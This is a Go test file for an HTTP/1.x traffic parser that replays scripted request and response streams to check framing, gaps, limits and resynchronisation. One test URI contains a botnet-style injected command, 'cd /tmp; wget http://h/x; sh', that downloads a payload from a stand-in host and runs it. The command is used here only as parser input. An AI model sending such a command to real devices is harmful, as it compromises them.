@@ -1,0 +1,533 @@
+package httpwire
+
+import (
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+)
+
+// ev is one event of a test script: data from a side, a gap, a close, or the end.
+type ev struct {
+	side  int
+	data  string
+	gap   int
+	close bool
+	end   bool
+}
+
+func req(s string) ev  { return ev{side: 0, data: s} }
+func resp(s string) ev { return ev{side: 1, data: s} }
+
+var t0 = time.Date(2026, 1, 2, 3, 4, 5, 0, time.UTC)
+
+// play runs script through a fresh Conn and returns the emitted transactions, described.
+// split cuts data events: pieces of data event splitEv are cut at splitAt (if > 0), and
+// every data event is fed in chunks of chunk bytes (if > 0).
+func play(cfg *Config, script []ev, splitEv, splitAt, chunk int) []string {
+	return playWith(cfg, script, splitEv, splitAt, chunk, describe)
+}
+
+func playWith(cfg *Config, script []ev, splitEv, splitAt, chunk int, render func(*Transaction) string) []string {
+	var out []string
+	c := NewConn(cfg, func(tx *Transaction) { out = append(out, render(tx)) })
+	feed := func(side int, b []byte) {
+		if chunk <= 0 {
+			c.Feed(side, b, t0)
+			return
+		}
+		for len(b) > 0 {
+			n := min(chunk, len(b))
+			c.Feed(side, b[:n], t0)
+			b = b[n:]
+		}
+	}
+	ended := false
+	for i, e := range script {
+		switch {
+		case e.end:
+			c.End(t0)
+			ended = true
+		case e.close:
+			c.Close(e.side, t0)
+		case e.gap > 0:
+			c.Gap(e.side, e.gap, t0)
+		default:
+			b := []byte(e.data)
+			if i == splitEv && splitAt > 0 && splitAt < len(b) {
+				feed(e.side, b[:splitAt])
+				feed(e.side, b[splitAt:])
+			} else {
+				feed(e.side, b)
+			}
+		}
+	}
+	if !ended {
+		c.End(t0)
+	}
+	return out
+}
+
+// describe renders a transaction in one line: what the tables below compare.
+func describe(tx *Transaction) string {
+	var b strings.Builder
+	r := tx.Req
+	fmt.Fprintf(&b, "c%d %s %q %s req=%d", tx.ClientSide, r.Method, r.URI, r.Version, r.BodyBytes)
+	flags(&b, r.Partial, r.Truncated)
+	if tx.Resp == nil {
+		b.WriteString(" -> none")
+		return b.String()
+	}
+	fmt.Fprintf(&b, " -> %d %s resp=%d", tx.Resp.Status, tx.Resp.Version, tx.Resp.BodyBytes)
+	flags(&b, tx.Resp.Partial, tx.Resp.Truncated)
+	return b.String()
+}
+
+func flags(b *strings.Builder, partial, truncated bool) {
+	if partial {
+		b.WriteString(" partial")
+	}
+	if truncated {
+		b.WriteString(" truncated")
+	}
+}
+
+// full renders every field, headers included, for whole-versus-split comparisons.
+func full(tx *Transaction) string {
+	s := fmt.Sprintf("%d %+v", tx.ClientSide, *tx.Req)
+	if tx.Resp != nil {
+		s += fmt.Sprintf(" %+v", *tx.Resp)
+	}
+	return s
+}
+
+func many(n int, f func(i int) string) string {
+	var b strings.Builder
+	for i := range n {
+		b.WriteString(f(i))
+	}
+	return b.String()
+}
+
+const okBody = "HTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"
+
+var connTests = []struct {
+	name   string
+	cfg    *Config
+	script []ev
+	want   []string
+}{
+	{
+		name:   "simple get",
+		script: []ev{req("GET /a?b=1 HTTP/1.1\r\nHost: x\r\n\r\n"), resp(okBody)},
+		want:   []string{`c0 GET "/a?b=1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
+	},
+	{
+		name: "keep-alive",
+		script: []ev{
+			req("GET /1 HTTP/1.1\r\n\r\n"), resp(okBody),
+			req("POST /2 HTTP/1.1\r\nContent-Length: 3\r\n\r\nabc"), resp("HTTP/1.1 201 Created\r\nContent-Length: 0\r\n\r\n"),
+		},
+		want: []string{
+			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+			`c0 POST "/2" HTTP/1.1 req=3 -> 201 HTTP/1.1 resp=0`,
+		},
+	},
+	{
+		name:   "client is side 1",
+		script: []ev{{side: 1, data: "GET / HTTP/1.1\r\n\r\n"}, {side: 0, data: okBody}},
+		want:   []string{`c1 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
+	},
+	{
+		name: "pipelined 40",
+		script: []ev{
+			req(many(40, func(i int) string { return fmt.Sprintf("GET /p%d HTTP/1.1\r\nHost: h\r\n\r\n", i) })),
+			resp(many(40, func(i int) string {
+				return fmt.Sprintf("HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s", i, strings.Repeat("x", i))
+			})),
+		},
+		want: func() []string {
+			var w []string
+			for i := range 40 {
+				w = append(w, fmt.Sprintf(`c0 GET "/p%d" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=%d`, i, i))
+			}
+			return w
+		}(),
+	},
+	{
+		name: "100-continue",
+		script: []ev{
+			req("PUT /up HTTP/1.1\r\nExpect: 100-continue\r\nContent-Length: 4\r\n\r\n"),
+			resp("HTTP/1.1 100 Continue\r\n\r\n"),
+			req("data"),
+			resp("HTTP/1.1 201 Created\r\nContent-Length: 2\r\n\r\nok"),
+		},
+		want: []string{`c0 PUT "/up" HTTP/1.1 req=4 -> 201 HTTP/1.1 resp=2`},
+	},
+	{
+		name: "several interim responses",
+		script: []ev{
+			req("GET / HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 102 Processing\r\n\r\nHTTP/1.1 103 Early Hints\r\nLink: </s.css>\r\n\r\n" + okBody),
+		},
+		want: []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
+	},
+	{
+		name: "head with content-length",
+		script: []ev{
+			req("HEAD /h HTTP/1.1\r\n\r\n"), resp("HTTP/1.1 200 OK\r\nContent-Length: 1000\r\n\r\n"),
+			req("GET /g HTTP/1.1\r\n\r\n"), resp(okBody),
+		},
+		want: []string{
+			`c0 HEAD "/h" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`,
+			`c0 GET "/g" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "304 and 204 without body",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\nIf-None-Match: \"x\"\r\n\r\nGET /b HTTP/1.1\r\n\r\nGET /c HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 304 Not Modified\r\nContent-Length: 50\r\n\r\nHTTP/1.1 204 No Content\r\n\r\n" + okBody),
+		},
+		want: []string{
+			`c0 GET "/a" HTTP/1.1 req=0 -> 304 HTTP/1.1 resp=0`,
+			`c0 GET "/b" HTTP/1.1 req=0 -> 204 HTTP/1.1 resp=0`,
+			`c0 GET "/c" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "chunked with extensions and trailers",
+		script: []ev{
+			req("POST /c HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n3;ext=1\r\nabc\r\n0\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: gzip, chunked\r\n\r\n" +
+				"A; name=\"v\"\r\n0123456789\r\n05\r\nhello\r\n0\r\nX-Checksum: 1\r\nX-Other: 2\r\n\r\n"),
+			req("GET /next HTTP/1.1\r\n\r\n"), resp(okBody),
+		},
+		want: []string{
+			`c0 POST "/c" HTTP/1.1 req=3 -> 200 HTTP/1.1 resp=15`,
+			`c0 GET "/next" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "close-delimited ended by fin",
+		script: []ev{
+			req("GET /old HTTP/1.0\r\n\r\n"),
+			resp("HTTP/1.0 200 OK\r\nContent-Type: text/plain\r\n\r\nsome body that runs"),
+			{side: 1, close: true},
+			req("GET /late HTTP/1.0\r\n\r\n"),
+		},
+		want: []string{
+			`c0 GET "/old" HTTP/1.0 req=0 -> 200 HTTP/1.0 resp=19`,
+			`c0 GET "/late" HTTP/1.0 req=0 -> none`,
+		},
+	},
+	{
+		name: "close-delimited ended by end",
+		script: []ev{
+			req("GET /old HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\nConnection: close\r\n\r\nbody"),
+		},
+		want: []string{`c0 GET "/old" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=4`},
+	},
+	{
+		name: "connect tunnel",
+		script: []ev{
+			req("CONNECT example.com:443 HTTP/1.1\r\nHost: example.com:443\r\n\r\n"),
+			resp("HTTP/1.1 200 Connection established\r\n\r\n\x16\x03\x01\x02\x00"),
+			req("\x16\x03\x01\x02\x00GET /not-http HTTP/1.1\r\n\r\n"),
+		},
+		want: []string{`c0 CONNECT "example.com:443" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0`},
+	},
+	{
+		name: "connect refused keeps parsing",
+		script: []ev{
+			req("CONNECT example.com:443 HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 407 Proxy Authentication Required\r\nContent-Length: 0\r\n\r\n"),
+			req("GET /x HTTP/1.1\r\n\r\n"), resp(okBody),
+		},
+		want: []string{
+			`c0 CONNECT "example.com:443" HTTP/1.1 req=0 -> 407 HTTP/1.1 resp=0`,
+			`c0 GET "/x" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "upgrade websocket",
+		script: []ev{
+			req("GET /ws HTTP/1.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"),
+			resp("HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\n\r\n\x81\x05hello"),
+			req("\x81\x85abcdGET / HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\n\r\n"),
+		},
+		want: []string{`c0 GET "/ws" HTTP/1.1 req=0 -> 101 HTTP/1.1 resp=0`},
+	},
+	{
+		name: "starting with a response",
+		script: []ev{
+			{side: 0, data: "HTTP/1.1 200 OK\r\nContent-Length: 3\r\n\r\nabc"},
+			{side: 1, data: "GET /icons/a.png HTTP/1.1\r\n\r\n"},
+			{side: 0, data: "HTTP/1.1 404 Not Found\r\nContent-Length: 2\r\n\r\nno"},
+		},
+		want: []string{`c1 GET "/icons/a.png" HTTP/1.1 req=0 -> 404 HTTP/1.1 resp=2`},
+	},
+	{
+		name: "starting mid-body",
+		script: []ev{
+			req("ody of an earlier upload\x00\x01 no newline GET /next HTTP/1.1\r\nHost: h\r\n\r\n"),
+			resp("tail of a json body\"}\r\nmore\nHTTP/1.1 200 OK\r\nContent-Length: 5\r\n\r\nhello"),
+		},
+		want: []string{`c0 GET "/next" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`},
+	},
+	{
+		name: "garbage between messages",
+		script: []ev{
+			req("GET /1 HTTP/1.1\r\n\r\n\x00\x01garbage\r\nnot a request\r\nGET /2 HTTP/1.1\r\n\r\n"),
+			resp(okBody + "junk\r\n" + okBody),
+		},
+		want: []string{
+			`c0 GET "/1" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "uri with spaces and tabs kept as sent",
+		script: []ev{
+			req("GET /uri afterspace HTTP/1.1\r\n\r\nGET /shell?cd+/tmp;wget+\t\thttp://h/x;sh HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n"),
+		},
+		want: []string{
+			`c0 GET "/uri afterspace" HTTP/1.1 req=0 -> 400 HTTP/1.1 resp=0`,
+			`c0 GET "/shell?cd+/tmp;wget+\t\thttp://h/x;sh" HTTP/1.1 req=0 -> none`,
+		},
+	},
+	{
+		name:   "bare lf line ends and lower-case names",
+		script: []ev{req("POST /l HTTP/1.1\ncontent-LENGTH: 2\n\nokGET /m HTTP/1.1\n\n"), resp("HTTP/1.1 200 OK\ncontent-length: 1\n\nxHTTP/1.1 200 OK\nCONTENT-LENGTH: 1\n\ny")},
+		want: []string{
+			`c0 POST "/l" HTTP/1.1 req=2 -> 200 HTTP/1.1 resp=1`,
+			`c0 GET "/m" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=1`,
+		},
+	},
+	{
+		name: "token method and obs-fold framing",
+		script: []ev{
+			req("BREW /pot HTTP/1.1\r\nTransfer-Encoding:\r\n chunked\r\n\r\n1\r\nx\r\n0\r\n\r\n"),
+			resp("HTTP/1.1 418 I'm a teapot\r\nContent-Length: 1\r\n\r\nt"),
+		},
+		want: []string{`c0 BREW "/pot" HTTP/1.1 req=1 -> 418 HTTP/1.1 resp=1`},
+	},
+	{
+		name: "identical content-lengths accepted, conflicting use the first",
+		script: []ev{
+			req("POST /a HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 3, 3\r\n\r\nabc"),
+			req("POST /b HTTP/1.1\r\nContent-Length: 2\r\nContent-Length: 40\r\n\r\nxy"),
+			resp("HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\nHTTP/1.1 501 Not Implemented\r\nContent-Length: 0\r\n\r\n"),
+		},
+		want: []string{
+			`c0 POST "/a" HTTP/1.1 req=3 -> 200 HTTP/1.1 resp=0`,
+			`c0 POST "/b" HTTP/1.1 req=2 -> 501 HTTP/1.1 resp=0`,
+		},
+	},
+	{
+		name: "transfer-encoding wins over content-length",
+		script: []ev{
+			req("POST /te HTTP/1.1\r\nContent-Length: 100\r\nTransfer-Encoding: chunked\r\n\r\n2\r\nab\r\n0\r\n\r\n"),
+			resp(okBody),
+		},
+		want: []string{`c0 POST "/te" HTTP/1.1 req=2 -> 200 HTTP/1.1 resp=5`},
+	},
+	{
+		name: "chunk size overflow resyncs",
+		script: []ev{
+			req("POST /o HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n10000000000000000\r\nxxxx\r\n0\r\n\r\nGET /after HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n" + okBody),
+		},
+		want: []string{
+			`c0 POST "/o" HTTP/1.1 req=0 -> 400 HTTP/1.1 resp=0`,
+			`c0 GET "/after" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name:   "header over limit",
+		cfg:    &Config{MaxHeaderBytes: 100},
+		script: []ev{req("GET /big HTTP/1.1\r\nA: 1\r\nX-Big: " + strings.Repeat("b", 200) + "\r\nContent-Length: 2\r\n\r\nzzGET /small HTTP/1.1\r\n\r\n"), resp(okBody + okBody)},
+		want: []string{
+			`c0 GET "/big" HTTP/1.1 req=2 truncated -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/small" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "too many headers",
+		script: []ev{
+			req("POST /many HTTP/1.1\r\n" + many(150, func(i int) string { return fmt.Sprintf("X-H%d: v\r\n", i) }) + "Content-Length: 4\r\n\r\nbody" + "GET /next HTTP/1.1\r\n\r\n"),
+			resp(okBody + okBody),
+		},
+		want: []string{
+			`c0 POST "/many" HTTP/1.1 req=4 truncated -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/next" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name:   "request line over limit",
+		cfg:    &Config{MaxStartLine: 64},
+		script: []ev{req("GET /" + strings.Repeat("a", 100) + " HTTP/1.1\r\nHost: h\r\n\r\nGET /ok HTTP/1.1\r\n\r\n"), resp(okBody + okBody)},
+		want: []string{
+			`c0 GET "/` + strings.Repeat("a", 59) + `"  req=0 truncated -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/ok" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name:   "chunk line over limit keeps the size",
+		cfg:    &Config{MaxChunkLine: 16},
+		script: []ev{req("GET / HTTP/1.1\r\n\r\n"), resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n3;" + strings.Repeat("e", 40) + "\r\nabc\r\n0\r\n\r\n")},
+		want:   []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=3 truncated`},
+	},
+	{
+		name:   "pending limit emits the oldest",
+		cfg:    &Config{MaxPending: 2},
+		script: []ev{req("GET /1 HTTP/1.1\r\n\r\nGET /2 HTTP/1.1\r\n\r\nGET /3 HTTP/1.1\r\n\r\n"), resp(okBody)},
+		want: []string{
+			`c0 GET "/1" HTTP/1.1 req=0 -> none`,
+			`c0 GET "/2" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/3" HTTP/1.1 req=0 -> none`,
+		},
+	},
+	{
+		name:   "request without response",
+		script: []ev{req("GET /lonely HTTP/1.1\r\n\r\nPOST /half HTTP/1.1\r\nContent-Length: 10\r\n\r\nabc")},
+		want: []string{
+			`c0 GET "/lonely" HTTP/1.1 req=0 -> none`,
+			`c0 POST "/half" HTTP/1.1 req=3 partial -> none`,
+		},
+	},
+	{
+		name:   "response body cut by end",
+		script: []ev{req("GET / HTTP/1.1\r\n\r\n"), resp("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\nabc")},
+		want:   []string{`c0 GET "/" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=3 partial`},
+	},
+	{
+		name:   "headers cut by end",
+		script: []ev{req("GET /h HTTP/1.1\r\nHost: x\r\n")},
+		want:   []string{`c0 GET "/h" HTTP/1.1 req=0 partial -> none`},
+	},
+	{
+		name: "gap in response body",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\nContent-Length: 100\r\n\r\n0123456789"),
+			{side: 1, gap: 80},
+			resp("0123456789" + okBody),
+		},
+		want: []string{
+			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=100 partial`,
+			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "gap in chunked body",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n14\r\n01234"),
+			{side: 1, gap: 10},
+			resp("56789\r\n0\r\n\r\n"),
+		},
+		want: []string{`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=20 partial`},
+	},
+	{
+		name: "gap past the end of a body resyncs",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\nGET /c HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\nContent-Length: 10\r\n\r\n01234"),
+			{side: 1, gap: 30},
+			resp("ength: 5\r\n\r\nhello" + okBody),
+		},
+		want: []string{
+			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=10 partial`,
+			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5 partial`,
+			`c0 GET "/c" HTTP/1.1 req=0 -> none`,
+		},
+	},
+	{
+		name: "gap in request headers",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\nHost: x\r\nUser-Ag"),
+			{side: 0, gap: 20},
+			req("ent-tail\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
+			resp(okBody + okBody),
+		},
+		want: []string{
+			`c0 GET "/a" HTTP/1.1 req=0 partial -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "gap in response headers",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\n\r\nGET /b HTTP/1.1\r\n\r\n"),
+			resp("HTTP/1.1 200 OK\r\nContent-Le"),
+			{side: 1, gap: 30},
+			resp("xxxxx" + okBody),
+		},
+		want: []string{
+			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=0 partial`,
+			`c0 GET "/b" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "gap between messages marks the next",
+		script: []ev{
+			req("GET /a HTTP/1.1\r\n\r\n"), resp(okBody),
+			{side: 0, gap: 7},
+			req("GET /b HTTP/1.1\r\n\r\n"), resp(okBody),
+		},
+		want: []string{
+			`c0 GET "/a" HTTP/1.1 req=0 -> 200 HTTP/1.1 resp=5`,
+			`c0 GET "/b" HTTP/1.1 req=0 partial -> 200 HTTP/1.1 resp=5`,
+		},
+	},
+	{
+		name: "gap in close-delimited body",
+		script: []ev{
+			req("GET / HTTP/1.0\r\n\r\n"),
+			resp("HTTP/1.0 200 OK\r\n\r\nabc"), {side: 1, gap: 1000}, resp("def"), {side: 1, close: true},
+		},
+		want: []string{`c0 GET "/" HTTP/1.0 req=0 -> 200 HTTP/1.0 resp=1006 partial`},
+	},
+}
+
+func TestConn(t *testing.T) {
+	for _, tt := range connTests {
+		t.Run(tt.name, func(t *testing.T) {
+			got := play(tt.cfg, tt.script, -1, 0, 0)
+			if strings.Join(got, "\n") != strings.Join(tt.want, "\n") {
+				t.Fatalf("transactions:\n%s\nwant:\n%s", strings.Join(got, "\n"), strings.Join(tt.want, "\n"))
+			}
+		})
+	}
+}
+
+// TestConnSplit feeds every case cut at every byte offset of every data event, and in
+// chunks of 1 to 7 bytes: the transactions, headers included, must be the same.
+func TestConnSplit(t *testing.T) {
+	for _, tt := range connTests {
+		t.Run(tt.name, func(t *testing.T) {
+			whole := playFull(tt.cfg, tt.script, -1, 0, 0)
+			for i, e := range tt.script {
+				for at := 1; at < len(e.data); at++ {
+					if got := playFull(tt.cfg, tt.script, i, at, 0); got != whole {
+						t.Fatalf("event %d split at %d:\n%s\nwhole:\n%s", i, at, got, whole)
+					}
+				}
+			}
+			for chunk := 1; chunk <= 7; chunk++ {
+				if got := playFull(tt.cfg, tt.script, -1, 0, chunk); got != whole {
+					t.Fatalf("chunks of %d:\n%s\nwhole:\n%s", chunk, got, whole)
+				}
+			}
+		})
+	}
+}
+
+func playFull(cfg *Config, script []ev, splitEv, splitAt, chunk int) string {
+	out := playWith(cfg, script, splitEv, splitAt, chunk, full)
+	return strings.Join(out, "\n")
+}
